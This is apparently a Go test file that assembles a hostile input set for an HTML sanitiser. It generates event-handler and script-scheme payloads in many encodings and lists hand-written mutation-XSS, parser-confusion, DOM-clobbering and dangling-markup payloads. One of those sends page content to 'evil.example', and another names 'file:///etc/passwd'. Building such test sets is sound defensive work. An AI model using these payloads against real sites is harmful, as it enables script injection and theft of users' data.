package clean

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"clusterwire/feeds/eval/corpus"
)

// This file is the hostile set that the sanitiser is tried on, here and in a
// browser.

// eventNames are the handlers that browsers know, by what they belong to.
const eventNames = `abort activate afterprint afterscriptexecute afterupdate animationcancel animationend
animationiteration animationstart auxclick beforeactivate beforecopy beforecut beforedeactivate beforeeditfocus
beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload beforeupdate begin
blur bounce cancel canplay canplaythrough cellchange change click close command compositionend compositionstart
compositionupdate contentvisibilityautostatechange contextlost contextmenu contextrestored controlselect copy
cuechange cut dataavailable datasetchanged datasetcomplete dblclick deactivate drag dragdrop dragend dragenter
dragexit dragleave dragover dragstart drop durationchange emptied end ended error errorupdate filterchange finish
focus focusin focusout formdata fullscreenchange fullscreenerror gamepadconnected gamepaddisconnected
gotpointercapture hashchange help input invalid keydown keypress keyup languagechange layoutcomplete load
loadeddata loadedmetadata loadend loadstart location losecapture lostpointercapture mediacomplete mediaerror
message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel move moveend
movestart mozfullscreenchange offline online outofsync pagehide pagereveal pageshow pageswap paste pause play
playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate
pointerup popstate progress propertychange ratechange readystatechange rejectionhandled repeat reset resize
resizeend resizestart resume reverse rowdelete rowenter rowexit rowinserted scroll scrollend scrollsnapchange
search securitypolicyviolation seek seeked seeking select selectionchange selectstart show slotchange stalled start
stop storage submit suspend syncrestored timeerror timeupdate toggle touchcancel touchend touchmove touchstart
trackchange transitioncancel transitionend transitionrun transitionstart unhandledrejection unload urlflip
visibilitychange volumechange waiting webkitanimationend wheel zoom`

// generated returns our own hostile set: every handler on ten elements, and
// every scheme that runs code in every disguise and place.
func generated() []string {
	var out []string
	for _, event := range strings.Fields(eventNames) {
		for _, tag := range []string{"a href=http://x.example", "img src=x", "svg", "body", "div", "input autofocus", "video src=x", "details open", "p", "marquee"} {
			out = append(out, fmt.Sprintf(`<%s on%s=alert(1) tabindex=1 id=x class=y style="x:expression(alert(1))">t`, tag, event))
		}
	}
	disguises := []func(string) string{
		func(s string) string { return s },
		strings.ToUpper,
		func(s string) string { return s[:3] + "\t" + s[3:] },
		func(s string) string { return s[:3] + "\n" + s[3:] },
		func(s string) string { return s[:3] + "\x00" + s[3:] },
		func(s string) string { return "\x01 " + s },
		func(s string) string { return " \u00a0" + s },
		func(s string) string { return s[:2] + "&Tab;" + s[2:] },
		func(s string) string { return fmt.Sprintf("&#%d;", s[0]) + s[1:] },
		func(s string) string { return fmt.Sprintf("&#x%06x", s[0]) + s[1:] },
		func(s string) string { return strings.Replace(s, ":", "&colon;", 1) },
		func(s string) string { return strings.Replace(s, ":", "%3a", 1) },
		func(s string) string { return `\u006a` + s[1:] },
		func(s string) string { return "https:" + s },
		func(s string) string { return "//" + s },
	}
	schemes := []string{"javascript:alert(1)", "vbscript:msgbox(1)", "livescript:x", "data:text/html,<script>alert(1)</script>",
		"data:image/svg+xml;base64,PHN2Zz4=", "file:///etc/passwd", "view-source:http://x.example", "blob:http://x.example/1",
		"jar:http://x.example!/a", "about:blank", "filesystem:http://x.example/a", "ftp://x.example/a"}
	places := []string{`<a href="%s">t</a>`, `<img src="%s">`, `<blockquote cite="%s">t</blockquote>`, `<form action="%s"><button formaction="%[1]s">t`,
		`<iframe src="%s">`, `<object data="%s">`, `<a href='%s' ping="%[1]s">t`, `<svg><a xlink:href="%s">t`, `<base href="%s">`, `<link rel=stylesheet href="%s">`,
		`<meta http-equiv=refresh content="0;url=%s">`, `<img srcset="%s 1x" data-src="%[1]s">`, `<div style="background:url(%s)">t`}
	for _, scheme := range schemes {
		for _, disguise := range disguises {
			for _, place := range places {
				out = append(out, fmt.Sprintf(place, disguise(scheme)))
			}
		}
	}
	return append(out, mutants...)
}

// mutants are payloads that change their meaning when parsed twice (X6).
var mutants = []string{
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<noscript><noscript><script>alert(1)</script></noscript></noscript>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<xmp><p title="</xmp><svg/onload=alert(1)>">`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<![CDATA[<![CDATA[<script>alert(1)</script>]]>]]>`,
	`<!--><script>alert(1)</script>-->`, `<!--!><img src=x onerror=alert(1)>-->`, `<!-- --!><script>alert(1)</script>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<script>alert(1)//<</script>`, `<img src="x` + "`" + `onerror=alert(1)">`,
	`<a href="http://x.example/&quot; onclick=alert(1) &quot;">t</a>`, `<a title='"><script>alert(1)</script>' href=/x>t</a>`,
	`<img alt="` + "``" + `onerror=alert(1)" src=/x>`, `<table><a href=/x><tr><td></a><b><table><p></td><svg>`,
	`<select><option><style></select><img src=x onerror=alert(1)></style>`, `<template><script>alert(1)</script></template><p>t`,
	`<p><table><p></table><li></p><td><a href=/1><a href=/2>`, `<a href=/1><div><a href=/2><b></a></div></b>`,
	`<plaintext><script>alert(1)</script>`, `<title><img src=x onerror=alert(1)></title>t`, "<a\x00href=/x\x0conclick=alert(1)>t",
	`<a href=/x href="javascript:alert(1)">t</a>`, `<a href="javascript:alert(1)" href=/x>t</a>`, `<img src=/x src=1 onerror=alert(1)//`,
	`<a href="mailto:a@b.example?subject=a%2Bb&body=<script>">t</a>`, `<a href="mailto:%22onx@b.example">t</a>`, `<a href="mailto:javascript:alert(1)">t</a>`,
	// Raw text inside foreign content, and foreign content that ends in a table.
	`<math><mi><xmp><img title="</xmp><img src onerror=alert(1)>"></math>`,
	`<svg><desc><noscript><img title="</noscript><img src onerror=alert(1)>"></svg>`,
	`<svg><title><a title="</title><img src onerror=alert(1)>">`,
	`<svg><foreignObject><iframe><p title="</iframe><img src onerror=alert(1)>">`,
	`<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style>`,
	`<math><mtext><img><table><mglyph><style><a title="</style><img src onerror=alert(1)>">`,
	`<table><math><select><mi><style></math><img src onerror=alert(1)></style>`,
	`<svg><b><style><img title="</style><img src onerror=alert(1)>">`,
	`<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>t</text></a>`,
	`<svg><set attributeName=onmouseover to=alert(1)>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x">`,
	`<svg><image xlink:href=x onerror=alert(1)>`, `<svg><script>alert&#40;1)</script>`, `<svg><script href=data:,alert(1) />`,
	// Comments, CDATA and processing instructions that parsers end in different places.
	`<?xml version="1.0"?><script>alert(1)</script>`, `<?php "?><img src=x onerror=alert(1)>" ?>`, `<!ELEMENT x "><img src=x onerror=alert(1)>">`,
	`<!-- > <img title="--><img src=x onerror=alert(1)>"> -->`, `<!--><img src=x onerror=alert(1)>`, `<!---><img src=x onerror=alert(1)>-->`, `<!--- --!><img src=x onerror=alert(1)>`,
	`<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>`, `<math><![CDATA[><img src=x onerror=alert(1)>]]></math>`, `<![CDATA[x]]]]><![CDATA[><script>alert(1)</script>]]>`,
	`</ <img src=x onerror=alert(1)>>`, `</?><img src=x onerror=alert(1)>`, `<//style><img src=x onerror=alert(1)>`,
	// Bytes that one parser skips and another does not.
	"<img\fsrc=x\fonerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img\vsrc=x onerror=alert(1)>", "<\x00img src=x onerror=alert(1)>", "<img src=x on\x00error=alert(1)>",
	"<img src=x onerror\u00a0=alert(1)>", "<script\x0b>alert(1)</script\x0b>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\ufeff<script>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<ımg src=x onerror=alert(1)>",
	"＜script＞alert(1)＜/script＞", "<a href=\"java\u00adscript:alert(1)\">t</a>", "<a href=\"\u202ejavascript:alert(1)\">t</a>", "<a href=\"\ue000javascript:alert(1)\">t</a>",
	// Escaped more than once, as feeds do it.
	`&#60;img src=x onerror=alert(1)&#62;`, `&#x26;lt;img src=x onerror=alert(1)&#x26;gt;`, `&lt;img src=x onerror=alert(1)&gt;<b>t</b>`, `%3Cscript%3Ealert(1)%3C/script%3E`,
	`&lt;![CDATA[<img src=x onerror=alert(1)>]]&gt;`, `<p>&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;</p>`, `&amp;#60;script&amp;#62;alert(1)&amp;#60;/script&amp;#62;`,
	// Attributes that end where only some see it.
	`<a href='https://x.example/' title='a' onclick='alert(1)'>t</a>`, `<a href="https://x.example/"onclick="alert(1)">t</a>`, "<a href=`https://x.example/` onclick=alert(1)>t</a>", `<a title="<img src=x onerror=alert(1)>" href=/x>t</a>`,
	`<img src="x" alt="&quot; onerror=alert(1) x=&quot;">`, `<img src="/x" width="1&quot; onerror=&quot;alert(1)">`, `<time datetime="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">t</time>`, `<p lang="&quot;onclick=alert(1)">t</p>`,
	// What reaches into a page without script: clobbering, styles, forms, dangling markup.
	`<a id=alert name=alert href=/x>t</a>`, `<form id=document><input name=cookie>`, `<img name=getElementById src=/x>`, `<img src='//evil.example/?`, `<a href='//evil.example/?<p>secret</p>`, `<base target='`, `<button form=f formaction=javascript:alert(1)>t`,
	`<style>@import 'javascript:alert(1)'</style>`, `<link rel=import href=data:text/html,<script>alert(1)</script>>`, `<dialog open onclose=alert(1)><form method=dialog><button>t`, `<input type=image src=x onerror=alert(1)>`, `<portal src=javascript:alert(1)>`, `<frameset onload=alert(1)><frame src=javascript:alert(1)>`,
	`<p is=x-script>t</p>`, `<slot name=x onslotchange=alert(1)><template shadowrootmode=open><img src=x onerror=alert(1)></template></slot>`, `<div><template shadowrootmode=open><script>alert(1)</script></template></div>`,
	`<button popovertarget=x onclick=alert(1)>t</button><div popover id=x onbeforetoggle=alert(1)>u</div>`, `<marquee width=1 loop=1 onfinish=alert(1)>t`, `<body background="javascript:alert(1)">`, `<table background="javascript:alert(1)"><td background="javascript:alert(1)">t`,
}

// published are the payloads of the lists in the corpora.
func published(t *testing.T) []string {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(corpus.Path(t, "xss"), "*.*"))
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for _, file := range files {
		all = append(all, payloadsOf(t, file)...)
	}
	return all
}

// payloadsOf reads one file of payloads: a list in JSON, or lines, which are
// also tried as one document.
func payloadsOf(t *testing.T, file string) []string {
	t.Helper()
	raw, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if filepath.Ext(file) == ".json" {
		var list []string
		if err := json.Unmarshal(raw, &list); err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		return list
	}
	return append(strings.Split(string(raw), "\n"), string(raw))
}
